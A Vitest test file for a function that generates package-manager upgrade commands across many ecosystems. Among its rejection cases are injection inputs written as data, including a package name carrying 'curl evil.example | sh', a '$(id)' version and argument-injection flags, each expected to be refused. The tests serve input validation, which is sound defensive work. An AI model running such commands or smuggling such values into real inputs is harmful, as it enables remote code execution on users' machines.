import { expect, it } from 'vitest';
import { upgradeCommand, upgradeCommandByFixes } from './upgrade-command.ts';

it.each<[string | null, string, string, string | null]>([
  ['npm', '@angular/core', '12.0.1', 'npm install @angular/core@12.0.1'],
  ['PyPI', 'requests', '2.31.0', 'pip install "requests>=2.31.0"'],
  ['crates.io', 'regex', '1.5.5', 'cargo update -p regex --precise 1.5.5'],
  ['Go', 'golang.org/x/net', '0.17.0', 'go get golang.org/x/net@v0.17.0'],
  ['Go', 'stdlib', '1.21.3', null],
  ['RubyGems', 'nokogiri', '1.18.9', 'gem install nokogiri --version 1.18.9'],
  ['Packagist', 'drupal/core', '8.5.1', 'composer require "drupal/core:^8.5.1"'],
  ['NuGet', 'SkiaSharp', '2.88.6', 'dotnet add package SkiaSharp --version 2.88.6'],
  ['Maven', 'org.a:b', '2.15.0', 'mvn versions:use-dep-version -Dincludes=org.a:b -DdepVersion=2.15.0'],
  ['Debian:12', 'xz-utils', '5.6.1+really5.4.5-1', 'apt-get update && apt-get install --only-upgrade xz-utils'],
  ['Alpine:v3.19', 'xz', '5.6.1-r2', 'apk upgrade xz'],
  ['Ubuntu:22.04:LTS', 'curl', '7.81.0', 'apt-get update && apt-get install --only-upgrade curl'],
  ['Wolfi', 'curl', '8.5.0-r0', 'apk upgrade curl'],
  ['Chainguard', 'curl', '8.5.0-r0', 'apk upgrade curl'],
  ['AlmaLinux:9', 'curl', '7.76.1-29.el9', 'dnf upgrade curl'],
  ['Rocky Linux:9', 'curl', '7.76.1-29.el9', 'dnf upgrade curl'],
  ['Red Hat:rhel_eus:9.4', 'curl', '7.76.1-29.el9', 'dnf upgrade curl'],
  ['Go', 'golang.org/x/net', 'v0.17.0', 'go get golang.org/x/net@v0.17.0'],
  ['Debian:12', 'libstdc++6', '12.2.0', 'apt-get update && apt-get install --only-upgrade libstdc++6'],
  ['Debian:12', 'curl -y', '1.0', null],
  ['Debian:12', '-y', '1.0', null],
  ['Debian:12', 'x'.repeat(201), '1.0', null],
  ['crates.io', '2x', '1.0.0', null],
  ['RubyGems', 'a/b', '1.0.0', null],
  ['npm', 'x', '-1', null],
  ['npm', 'x', '1'.repeat(101), null],
  ['Hackage', 'process', '1.6.19.0', null],
  [null, 'NetScaler ADC', '14.1-8.50', null],
  ['npm', 'x; curl evil.example | sh', '1.0.0', null],
  ['npm', '-g', '1.0.0', null],
  ['npm', 'stranger/repository', '1.0.0', null],
  ['npm', 'left-pad.tgz', '1.0.0', null],
  ['Go', 'all', '1.0.0', null],
  ['PyPI', 'requests/../x', '1.0.0', null],
  ['npm', 'x', '$(id)', null],
  ['npm', 'x', '1.0.0 --unsafe', null],
])('%s %s %s', (ecosystem, name, version, expected) => {
  expect(upgradeCommand(ecosystem, name, version)).toBe(expected);
});

it.each<[string, [string | null, string][], string | null]>([
  ['one package', [['npm', 'lodash']], 'npm install lodash@4.17.21'],
  [
    'one package, named by two records',
    [
      ['npm', 'lodash'],
      ['npm', 'lodash'],
    ],
    'npm install lodash@4.17.21',
  ],
  [
    'two ecosystems',
    [
      ['npm', 'lodash'],
      ['PyPI', 'lodash'],
    ],
    null,
  ],
  [
    'a product beside it',
    [
      ['npm', 'lodash'],
      [null, 'lodash'],
    ],
    null,
  ],
  ['nothing', [], null],
])('the command for a name where fixes name %s', (_, fixes, expected) => {
  const subjects = fixes.map(([ecosystem, name]) => ({ ecosystem, name }));

  expect(upgradeCommandByFixes(subjects, '4.17.21')).toBe(expected);
});
